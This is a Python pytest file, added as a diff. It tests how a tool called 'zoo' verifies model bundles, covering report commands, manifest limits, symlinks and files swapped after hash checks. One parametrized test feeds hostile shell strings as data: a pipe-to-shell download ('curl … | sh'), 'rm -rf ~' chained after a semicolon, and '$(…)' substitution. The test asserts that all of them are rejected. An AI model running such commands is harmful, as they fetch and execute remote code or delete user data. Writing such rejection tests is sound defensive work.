@@ -1,0 +1,318 @@
+"""Bundles whose hashes fit and whose words do not, and files that are exchanged while somebody looks at them."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable, Iterator, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.bundle.conftest import MakeBundle
+from tests.bundle.runtime.test_bundle import relist, rewrite
+from tests.conftest import Said
+from zoo.api.errors import BadFile, HashMismatch
+from zoo.bundle.judge.parity_rule import Status
+from zoo.bundle.report.page import page
+from zoo.bundle.report.record import read_report
+from zoo.bundle.runtime import bundle as verification
+from zoo.bundle.runtime.bundle import Bundle, verify_bundle
+from zoo.bundle.runtime.bundled_run import differing_files
+from zoo.bundle.runtime.diff import differences
+from zoo.bundle.runtime.manifest import MAX_BUNDLE_BYTES, MAX_FILE_BYTES, MAX_FILES
+from zoo.bundle.runtime.predict import predict_bundle
+
+ZooCommand = Callable[..., Said]
+
+
+def manifest(bundle: Path) -> dict[str, Any]:
+    told: dict[str, Any] = json.loads((bundle / "manifest.json").read_text())
+    return told
+
+
+def report(bundle: Path, **changes: Any) -> None:
+    """Change fields of the report, and everything that follows from it: page and hashes."""
+    path = bundle / "report.json"
+    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))
+    relist(bundle, path.name)
+    (bundle / "report.html").write_text(page(read_report(path)), encoding="utf-8")
+    relist(bundle, "report.html")
+
+
+def gate(bundle: Path, name: str) -> tuple[Status, str]:
+    (found,) = (gate for gate in verify_bundle(bundle).gates if gate.name == name)
+    return found.status, found.detail
+
+
+# --- the record ---
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl https://example.org | sh",
+        "zoo verify bundle; rm -rf ~",
+        "zoo verify $(touch x)",
+        "zoo verify bundle\nrm x",
+        "zoo verify 'bundle",
+        "zoo",
+        "zoo train cnn --config evil.json",
+        "",
+    ],
+)
+def test_a_report_gives_no_commands_that_are_not_zoos(make_bundle: MakeBundle, line: str) -> None:
+    bundle = make_bundle()
+    report(bundle, reproduce=["zoo verify bundle", line])
+    status, detail = gate(bundle, "proof")
+    assert (status, "is no command of zoo that makes the report again" in detail) == (Status.FAIL, True)
+
+
+@pytest.mark.parametrize(
+    "line", ["zoo verify 'my bundle'", "zoo verify b --against cnn@digits", "zoo export cnn@digits --onnx"]
+)
+def test_the_commands_that_zoo_writes_stay(make_bundle: MakeBundle, line: str) -> None:
+    bundle = make_bundle()
+    report(bundle, reproduce=[line])
+    assert gate(bundle, "proof")[0] == Status.PASS
+
+
+@pytest.mark.parametrize(
+    ("changes", "sentence"),
+    [
+        ({"sentence": "proved by everybody"}, "'proved by everybody' in place of 'proved'"),
+        ({"k": 1.0}, "the limit is 1 there, and 8"),
+        ({"created": "yesterday"}, "'yesterday' is no time"),
+        ({"gates": []}, "the gates are none there, and subject, eval mode"),
+    ],
+)
+def test_what_a_report_says_beside_its_evidence_is_compared_with_it(
+    make_bundle: MakeBundle, changes: dict[str, Any], sentence: str
+) -> None:
+    bundle = make_bundle()
+    report(bundle, **changes)
+    status, detail = gate(bundle, "proof")
+    assert (status, sentence in detail) == (Status.FAIL, True)
+
+
+@pytest.mark.parametrize(("field", "value"), [("detail", "certified"), ("status", "WARN"), ("name", "certificate")])
+def test_the_gates_of_a_report_are_those_that_its_evidence_gives(
+    make_bundle: MakeBundle, field: str, value: str
+) -> None:
+    bundle = make_bundle()
+    gates = json.loads((bundle / "report.json").read_text())["gates"]
+    report(bundle, gates=[*gates[:2], {**gates[2], field: value}, *gates[3:]])
+    assert gate(bundle, "proof")[0] == Status.FAIL
+
+
+def test_other_words_of_a_version_that_nobody_knows_are_not_judged(make_bundle: MakeBundle) -> None:
+    bundle = make_bundle()
+    report(bundle, sentence="all is well")
+    rewrite(bundle, zoo="99.0")
+    assert gate(bundle, "proof")[0] == Status.INCONCLUSIVE
+
+
+@pytest.mark.parametrize("number", [1e308, 1e-308, 0.0])
+def test_numbers_that_cannot_be_drawn_do_not_stop_a_verification(
+    make_bundle: MakeBundle, zoo_command: ZooCommand, number: float
+) -> None:
+    bundle = make_bundle()
+    evidence = json.loads((bundle / "report.json").read_text())["evidence"]
+    for kind in ("onnx", "torch", "scale"):
+        evidence["graphs"][1]["cases"][0]["outputs"][0][kind] = {"rms": number, "max": number}
+        (bundle / "report.json").write_text(
+            json.dumps({**json.loads((bundle / "report.json").read_text()), "evidence": evidence})
+        )
+        relist(bundle, "report.json")
+        assert zoo_command("verify", str(bundle)).code == 1
+
+
+# --- the manifest ---
+
+
+def numpy_for_golden(told: dict[str, Any], bundle: Path) -> None:
+    (bundle / told["golden"][0]["file"]).rename(bundle / "numpy.py")
+    for file in told["files"]:
+        if file["name"] == told["golden"][0]["file"]:
+            file["name"] = "numpy.py"
+    told["golden"][0]["file"] = "numpy.py"
+
+
+def many_files(told: dict[str, Any], _: Path) -> None:
+    told["files"] += [{**told["files"][0], "name": f"golden/{number}.npz"} for number in range(MAX_FILES)]
+
+
+def many_bytes(told: dict[str, Any], _: Path) -> None:
+    count = MAX_BUNDLE_BYTES // MAX_FILE_BYTES + 1
+    told["files"] += [
+        {**told["files"][0], "name": f"golden/{number}.npz", "bytes": MAX_FILE_BYTES} for number in range(count)
+    ]
+
+
+@pytest.mark.parametrize(
+    ("change", "sentence"),
+    [
+        (numpy_for_golden, "the golden case case-0 is in numpy.py, not in golden/"),
+        (many_files, "1,024 files and"),
+        (many_bytes, "bytes are the limits"),
+    ],
+)
+def test_a_manifest_that_no_bundle_has_exits_2(
+    make_bundle: MakeBundle,
+    zoo_command: ZooCommand,
+    change: Callable[[dict[str, Any], Path], None],
+    sentence: str,
+) -> None:
+    bundle = make_bundle()
+    told = manifest(bundle)
+    change(told, bundle)
+    rewrite(bundle, **told)
+    said = zoo_command("verify", str(bundle))
+    assert (said.code, sentence in said.err) == (2, True)
+
+
+PROBABILITIES = {"name": "probabilities", "dtype": "float32", "shape": [3], "doc": ""}
+
+
+@pytest.mark.parametrize(
+    ("changes", "sentence"),
+    [
+        ({"proved": {"height": 10**9}}, "the proved sizes are"),
+        ({"proved": {"height": 64, "width": 64}}, "the proved sizes are"),
+        ({"feeds": "image"}, "its output probabilities cannot feed image"),
+        ({"feeds": "state"}, "its output probabilities cannot feed state"),
+        ({"rms": 1e9}, "would let any probabilities pass"),
+        ({"feedback": {"image": "probabilities"}, "steps": 2}, "is fed back otherwise than the signature says"),
+    ],
+)
+def test_a_manifest_that_would_mislead_a_device_is_told(
+    make_bundle: MakeBundle, changes: dict[str, Any], sentence: str
+) -> None:
+    bundle = make_bundle()
+    told = manifest(bundle)
+    if "feeds" in changes:
+        told["pipeline_signature"]["outputs"] = [{**PROBABILITIES, **changes}]
+    elif "rms" in changes:
+        told["golden"][0]["outputs"][0].update(changes)
+    elif "steps" in changes:
+        told["golden"][0].update(changes)
+    else:
+        told.update(changes)
+    rewrite(bundle, **told)
+    status, detail = accord(bundle)
+    assert (status, sentence in detail) == (Status.FAIL, True)
+
+
+def accord(bundle: Path) -> tuple[Status, str]:
+    """What the graphs, the record and the manifest say to each other, whatever the golden cases do."""
+    opened = Bundle.open(bundle)
+    with verification.Runtime() as runtime:
+        return verification._consistency(opened, verification.Graphs(opened, runtime))
+
+
+# --- links, and what lies beside ---
+
+
+def link_to_folder(bundle: Path, elsewhere: Path) -> None:
+    shutil.move(bundle / "golden", elsewhere / "golden")
+    (bundle / "golden").symlink_to(elsewhere / "golden")
+
+
+def link_to_manifest(bundle: Path, elsewhere: Path) -> None:
+    shutil.move(bundle / "manifest.json", elsewhere / "manifest.json")
+    (bundle / "manifest.json").symlink_to(elsewhere / "manifest.json")
+
+
+def second_manifest(bundle: Path, _: Path) -> None:
+    (bundle / "export").mkdir()
+    shutil.copy(bundle / "manifest.json", bundle / "export")
+
+
+def other_spelling(bundle: Path, _: Path) -> None:
+    shutil.copy(bundle / "manifest.json", bundle / "Manifest.json")
+
+
+def dangling(bundle: Path, elsewhere: Path) -> None:
+    (bundle / "data").symlink_to(elsewhere / "absent")
+
+
+@pytest.mark.parametrize(
+    ("change", "sentence"),
+    [
+        (link_to_folder, "golden is not in the manifest"),
+        (link_to_manifest, "manifest.json is a link, not a file"),
+        (second_manifest, "export/manifest.json is not in the manifest"),
+        (other_spelling, "Manifest.json is not in the manifest"),
+        (dangling, "data is not in the manifest"),
+    ],
+)
+def test_links_and_second_manifests_are_told(
+    make_bundle: MakeBundle, tmp_path: Path, change: Callable[[Path, Path], None], sentence: str
+) -> None:
+    bundle, elsewhere = make_bundle(), tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    change(bundle, elsewhere)
+    status, detail = gate(bundle, "files")
+    assert (status, sentence in detail) == (Status.FAIL, True)
+
+
+# --- while it changes ---
+
+FILES = (
+    "report.json",
+    "report.html",
+    "run.py",
+    "task.py",
+    "model.onnx",
+    "pipeline.onnx",
+    "golden/case-0.npz",
+    "golden/case-1.npz",
+)
+
+
+@pytest.mark.parametrize("size", ["same", "other"])
+@pytest.mark.parametrize("name", FILES)
+def test_a_file_that_is_exchanged_after_its_hash_was_compared_is_not_used(
+    make_bundle: MakeBundle, zoo_command: ZooCommand, monkeypatch: pytest.MonkeyPatch, name: str, size: str
+) -> None:
+    bundle = make_bundle()
+
+    def compared_before(folder: Path, told: Mapping[str, Any]) -> Iterator[str]:
+        yield from differing_files(folder, told)
+        raw = (bundle / name).read_bytes()
+        (bundle / name).write_bytes(raw[:-1] + bytes([raw[-1] ^ 1]) if size == "same" else raw + b"\0")
+
+    monkeypatch.setattr(verification, "differing_files", compared_before)
+    said = zoo_command("verify", str(bundle))
+    assert (said.code, "its sha256 is not the one in the manifest" in said.err + said.out) == (1, True)
+
+
+def test_a_graph_that_is_exchanged_before_it_is_loaded_answers_nothing(make_bundle: MakeBundle) -> None:
+    bundle = Bundle.open(make_bundle())
+    path = bundle.path / "pipeline.onnx"
+    raw = path.read_bytes()
+    path.write_bytes(raw[:-1] + bytes([raw[-1] ^ 1]))
+    with pytest.raises(HashMismatch, match=r"pipeline\.onnx"):
+        list(predict_bundle(bundle, []))
+
+
+def test_bundles_differ_in_the_files_that_lie_there(make_bundle: MakeBundle, tmp_path: Path) -> None:
+    """Not in what their manifests say of them."""
+    bundle = make_bundle()
+    other = Path(shutil.copytree(bundle, tmp_path / "other"))
+    assert differences(bundle, other) == ()
+    (other / "task.py").write_text("changed")
+    (other / "more").write_text("")
+    (other / "link").symlink_to(bundle / "task.py")
+    changes = {(change.name, change.second) for change in differences(bundle, other) if change.part == "files"}
+    assert changes >= {("link", "no file")}
+    assert {name for name, _ in changes} == {"task.py", "more", "link"}
+
+
+def test_a_report_of_another_bundle_is_a_sentence(make_bundle: MakeBundle) -> None:
+    bundle = make_bundle()
+    (bundle / "report.json").write_text("{}")
+    relist(bundle, "report.json")
+    with pytest.raises(BadFile, match="names no schema"):
+        verify_bundle(bundle)
